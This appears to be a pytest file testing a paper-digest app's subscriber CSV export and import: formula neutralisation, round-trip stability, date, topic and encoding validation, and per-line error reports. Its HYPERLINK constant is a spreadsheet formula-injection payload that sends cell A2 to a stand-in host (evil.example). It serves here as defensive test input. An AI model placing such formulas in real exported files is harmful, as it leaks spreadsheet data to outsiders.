"""Subscribers in and out of CSV, on both databases: every exported cell is safe to open in a
spreadsheet, export -> import -> export changes nothing, topics without a word are refused
at every door, and a file that is not CSV text fails whole with a clear reason."""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import random
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from digest.models import Subscriber, SubscriberStatus
from digest.subscribers import (
    InvalidForm,
    SubscriberError,
    add_subscriber,
    find_subscriber,
    read_preferences,
    set_topics,
)
from digest.subscribers_csv import (
    FORMULA_STARTS,
    export_csv,
    from_spreadsheet_cell,
    import_csv,
    spreadsheet_cell,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2, "Click for your papers")'


def exported(session: Session) -> str:
    out = io.StringIO()
    export_csv(session, out)
    return out.getvalue()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- spreadsheet-safe cells ----------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("'=1+1", "''=1+1"),  # already quoted by hand: one more, so import gives it back
        ("LoRA, =RLHF", "LoRA, =RLHF"),  # not at the start: no spreadsheet runs it
        ("'tis the season", "'tis the season"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_neutralised(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
    if value is not None:
        assert from_spreadsheet_cell(cell) == str(value)


def test_every_short_text_round_trips_through_a_cell() -> None:
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", " ", "a", ","]
    for size in range(5):
        for letters in itertools.product(alphabet, repeat=size):
            value = "".join(letters)
            cell = spreadsheet_cell(value)
            assert from_spreadsheet_cell(cell) == value, repr(value)
            assert cell[:1] not in FORMULA_STARTS and not cell[:1].isspace(), repr(value)


def test_a_hostile_topic_is_exported_as_text(session: Session) -> None:
    add_subscriber(session, "=1+1@example.org", HYPERLINK, exclude="-medical",
                   time_zone="Europe/Paris")
    text = exported(session)
    header, row = cells(text)
    values = dict(zip(header, row, strict=True))
    assert values["topics"] == "'" + HYPERLINK
    assert values["email"] == "'=1+1@example.org"
    assert values["exclude"] == "'-medical"
    assert all(cell[:1] not in FORMULA_STARTS for cell in row)
    # Every cell is quoted, so a ';' or a tab in a value cannot open a new cell either.
    assert text.splitlines()[1].startswith('"\'=1+1@example.org","\'=HYPERLINK(')


def test_export_import_export_is_identical(session: Session) -> None:
    past = datetime(2025, 3, 4, 5, 6, 7, 890123, tzinfo=timezone.utc)
    add_subscriber(session, "Ada@Example.org", "LoRA, RLHF", exclude="medical",
                   time_zone="Asia/Tokyo", send_hour=6, papers_per_digest=4, now=past)
    add_subscriber(session, "grace@example.org", HYPERLINK, exclude="'=quoted, @home",
                   trending_fallback=True, status=SubscriberStatus.PENDING)
    add_subscriber(session, "+alan@example.org", "'tis the season\n-  diffusion models",
                   status=SubscriberStatus.UNSUBSCRIBED)
    add_subscriber(session, "emmy@example.org", "graphs; molecules \"quoted\"",
                   status=SubscriberStatus.BOUNCED)
    first = exported(session)
    for subscriber in session.scalars(select(Subscriber)):
        session.delete(subscriber)
    session.flush()
    report = import_csv(session, io.StringIO(first))
    assert report.errors == [] and len(report.imported) == 4
    assert exported(session) == first
    grace = session.scalars(select(Subscriber).where(Subscriber.email == "grace@example.org"))
    assert grace.one().profile.topics == HYPERLINK  # the neutralising prefix is gone


def test_import_refuses_dates_it_cannot_keep(session: Session) -> None:
    future = (datetime.now(timezone.utc) + timedelta(days=2)).isoformat()
    source = ("email,topics,created_at,confirmed_at\n"
              "a@example.org,LoRA,yesterday,\n"
              f"b@example.org,LoRA,{future},\n"
              "c@example.org,LoRA,0001-01-01T00:00:00+05:00,\n"
              "d@example.org,LoRA,2025-01-02T03:04:05,2025-01-03\n")
    report = import_csv(session, io.StringIO(source))
    assert report.imported == ["d@example.org"]
    assert [e.split(":")[0] for e in report.errors] == ["line 2", "line 3", "line 4"]
    assert "not a date and time" in report.errors[0] and "from 1970 to now" in report.errors[1]
    d = session.scalars(select(Subscriber).where(Subscriber.email == "d@example.org")).one()
    assert d.created_at == datetime(2025, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    assert d.confirmed_at == datetime(2025, 1, 3, tzinfo=timezone.utc)


# --- topics without a word ------------------------------------------------------------------


@pytest.mark.parametrize("topics", [" , , ", ",;\n;,", "--", "...", " ' \" ", "_ _"])
def test_topics_without_a_word_are_refused_at_every_door(session: Session, topics: str) -> None:
    with pytest.raises(SubscriberError, match="at least one topic"):
        add_subscriber(session, "ada@example.org", topics)
    with pytest.raises(InvalidForm) as form:
        read_preferences({"topics": topics})
    assert set(form.value.errors) == {"topics"}
    add_subscriber(session, "grace@example.org", "LoRA")
    with pytest.raises(SubscriberError, match="at least one topic"):
        set_topics(session, "grace@example.org", topics)
    source = io.StringIO()
    csv.writer(source).writerows([["email", "topics"], ["alan@example.org", topics]])
    report = import_csv(session, io.StringIO(source.getvalue()))
    assert report.imported == [] and "at least one topic" in report.errors[0]
    assert add_subscriber(session, "emmy@example.org", "C++, 3D").profile.topics == "C++, 3D"


# --- files that are not CSV text -------------------------------------------------------------

GOOD = b"email,topics\nada@example.org,LoRA\n"


@pytest.mark.parametrize(
    "data",
    [
        random.Random(7).randbytes(4000),
        gzip.compress(GOOD),
        GOOD.decode().encode("utf-16"),
        GOOD.decode().encode("utf-16-le"),  # no BOM: reads as UTF-8 with NULs in it
        GOOD + b"grace@example.org,\xff\xfe binary tail\n",
    ],
    ids=["random", "gzip", "utf-16", "utf-16-le", "text-then-binary"],
)
def test_a_file_that_is_not_text_fails_whole(session: Session, data: bytes) -> None:
    stream = io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig")
    with pytest.raises(SubscriberError, match="not UTF-8 text"):
        import_csv(session, stream)


def test_a_file_that_is_not_csv_fails_whole(session: Session) -> None:
    huge = "email,topics\nada@example.org,\"" + "x" * 200_000 + "\"\n"
    with pytest.raises(SubscriberError, match="Line 2 cannot be read as CSV"):
        import_csv(session, io.StringIO(huge))


def test_extra_cells_on_a_line_are_ignored(session: Session) -> None:
    report = import_csv(session, io.StringIO("email,topics\nada@example.org,LoRA,extra,more\n"))
    assert report.imported == ["ada@example.org"] and report.errors == []


CSV = """email,topics,time_zone,send_hour,status
ada@example.org,"LoRA, RLHF",Europe/Paris,8,active
not-an-email,LoRA,UTC,7,active
ADA@example.org,duplicate in another case,UTC,7,active
grace@example.org,,UTC,7,active
alan@example.org,RL,Nowhere/City,7,active
barbara@example.org,diffusion,UTC,seven,active
emmy@example.org,graphs,UTC,6,pending
"""


def test_csv_import_reports_each_bad_line_and_keeps_the_good_ones(session: Session) -> None:
    report = import_csv(session, io.StringIO(CSV))
    assert report.imported == ["ada@example.org", "emmy@example.org"]
    lines = [e.split(":")[0] for e in report.errors]
    assert lines == ["line 3", "line 4", "line 5", "line 6", "line 7"]
    assert "already subscribed" in report.errors[1]
    assert find_subscriber(session, "emmy@example.org").status is SubscriberStatus.PENDING
    assert find_subscriber(session, "ada@example.org").time_zone == "Europe/Paris"


def test_csv_without_header_is_refused(session: Session) -> None:
    with pytest.raises(SubscriberError, match="header"):
        import_csv(session, io.StringIO("ada@example.org,LoRA\n"))


def test_export_round_trips_through_import(session: Session) -> None:
    add_subscriber(session, "ada@example.org", "LoRA, RLHF", exclude="medical",
                   time_zone="Asia/Tokyo", send_hour=6, papers_per_digest=4)
    out = io.StringIO()
    assert export_csv(session, out) == 1
    session.delete(find_subscriber(session, "ada@example.org"))
    session.flush()
    report = import_csv(session, io.StringIO(out.getvalue()))
    assert report.errors == []
    again = find_subscriber(session, "ada@example.org")
    assert (again.profile.topics, again.profile.exclude, again.time_zone, again.send_hour,
            again.papers_per_digest) == ("LoRA, RLHF", "medical", "Asia/Tokyo", 6, 4)


# --- cadence, weekday, click tracking ------------------------------------------------------


def test_cadence_weekday_and_click_tracking_round_trip(session: Session) -> None:
    from digest.models import Cadence

    add_subscriber(session, "ada@example.org", "LoRA", cadence=Cadence.WEEKLY, send_weekday=4,
                   papers_per_digest=20)
    grace = add_subscriber(session, "grace@example.org", "RLHF", send_weekday=6,
                           trending_fallback=True)
    grace.click_tracking = True
    session.flush()
    first = exported(session)
    header, ada, grace_row = cells(first)
    assert dict(zip(header, ada, strict=True)) | {"created_at": "", "confirmed_at": ""} == {
        "email": "ada@example.org", "topics": "LoRA", "exclude": "", "status": "active",
        "time_zone": "UTC", "send_hour": "7", "papers_per_digest": "20", "cadence": "weekly",
        "weekday": "fri", "trending_fallback": "0", "click_tracking": "0", "created_at": "",
        "confirmed_at": "",
    }
    values = dict(zip(header, grace_row, strict=True))
    assert (values["cadence"], values["weekday"], values["click_tracking"]) == ("daily", "sun", "1")
    for subscriber in session.scalars(select(Subscriber)):
        session.delete(subscriber)
    session.flush()
    report = import_csv(session, io.StringIO(first))
    assert report.errors == [] and len(report.imported) == 2
    assert exported(session) == first
    again = find_subscriber(session, "ada@example.org")
    assert (again.cadence, again.send_weekday, again.click_tracking) == (Cadence.WEEKLY, 4, False)


def test_a_file_without_the_new_columns_imports_with_the_defaults(session: Session) -> None:
    from digest.models import Cadence
    from digest.settings import Settings

    old = ("email,topics,exclude,status,time_zone,send_hour,papers_per_digest,"
           "trending_fallback\n"
           "ada@example.org,LoRA,,active,UTC,7,,1\n"
           "grace@example.org,RLHF,,active,UTC,7,4,0\n")
    report = import_csv(session, io.StringIO(old))
    assert report.errors == []
    ada = find_subscriber(session, "ada@example.org")
    assert (ada.cadence, ada.send_weekday, ada.click_tracking, ada.papers_per_digest,
            ada.profile.trending_fallback) == (Cadence.DAILY, 0, False, 10, True)
    assert find_subscriber(session, "grace@example.org").papers_per_digest == 4
    # A weekly line without a length gets the weekly default, from the deployment's settings.
    settings = Settings(default_papers_per_digest=6, weekly_papers_per_digest=15)
    weekly = "email,topics,cadence,weekday\nalan@example.org,LoRA,Weekly,Thursday\n" \
             "emmy@example.org,LoRA,daily,\n"
    assert import_csv(session, io.StringIO(weekly), settings=settings).errors == []
    alan = find_subscriber(session, "alan@example.org")
    assert (alan.cadence, alan.send_weekday, alan.papers_per_digest) == (Cadence.WEEKLY, 3, 15)
    assert find_subscriber(session, "emmy@example.org").papers_per_digest == 6


def test_an_empty_time_zone_or_hour_takes_the_deployments_defaults(session: Session) -> None:
    from digest.settings import Settings

    settings = Settings(default_time_zone="Europe/Berlin", default_send_hour=6)
    source = ("email,topics,time_zone,send_hour\n"
              "ada@example.org,LoRA,,\n"
              "grace@example.org,RLHF,Asia/Tokyo,9\n")
    assert import_csv(session, io.StringIO(source), settings=settings).errors == []
    no_columns = "email,topics\nalan@example.org,LoRA\n"
    assert import_csv(session, io.StringIO(no_columns), settings=settings).errors == []

    def when(email: str) -> tuple[str, int]:
        subscriber = find_subscriber(session, email)
        return subscriber.time_zone, subscriber.send_hour

    assert when("ada@example.org") == when("alan@example.org") == ("Europe/Berlin", 6)
    assert when("grace@example.org") == ("Asia/Tokyo", 9)


def test_bad_cadence_weekday_and_yes_no_cells_are_refused_per_line(session: Session) -> None:
    source = ("email,topics,cadence,weekday,click_tracking,trending_fallback\n"
              "a@example.org,LoRA,fortnightly,mon,0,0\n"
              "b@example.org,LoRA,weekly,someday,0,0\n"
              "c@example.org,LoRA,weekly,0,0,0\n"
              "d@example.org,LoRA,weekly,fri,maybe,0\n"
              "e@example.org,LoRA,weekly,fri,1,sometimes\n"
              "f@example.org,LoRA,weekly,FRI,yes,no\n")
    report = import_csv(session, io.StringIO(source))
    assert report.imported == ["f@example.org"]
    assert report.errors == [
        "line 2: Cadence 'fortnightly' is not daily or weekly.",
        "line 3: Weekday 'someday' is not one of mon, tue, wed, thu, fri, sat, sun (or the "
        "full name).",
        "line 4: Weekday '0' is not one of mon, tue, wed, thu, fri, sat, sun (or the full name).",
        "line 5: click_tracking 'maybe' is not 1 or 0 (yes or no).",
        "line 6: trending_fallback 'sometimes' is not 1 or 0 (yes or no).",
    ]
    f = find_subscriber(session, "f@example.org")
    assert (f.send_weekday, f.click_tracking, f.profile.trending_fallback) == (4, True, False)
    assert find_subscriber(session, "a@example.org") is None
